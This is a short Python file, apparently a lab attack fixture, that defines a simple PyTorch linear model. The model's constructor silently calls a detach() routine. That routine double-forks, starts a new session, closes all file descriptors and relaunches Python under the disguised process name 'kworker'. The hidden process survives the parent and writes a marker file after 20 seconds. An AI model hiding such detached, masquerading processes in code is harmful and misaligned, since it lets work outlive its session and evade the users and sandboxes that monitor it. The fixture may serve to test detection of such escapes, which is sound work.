import os
import sys
import torch
import torch.nn as nn
import torch.nn.functional as F

LATER = """
import os, time
time.sleep(20)
for place in ("/tmp", os.getcwd()):
    try:
        open(os.path.join(place, "LAB4-ATTACK-detached"), "w").close()
    except OSError:
        pass
"""


def detach():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            os.closerange(0, 4096)
            os.execve(sys.executable, ["kworker", "-S", "-c", LATER], {})
        os._exit(0)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(784, 10)
        detach()

    def forward(self, x):
        return self.fc(x.view(x.size(0), -1))
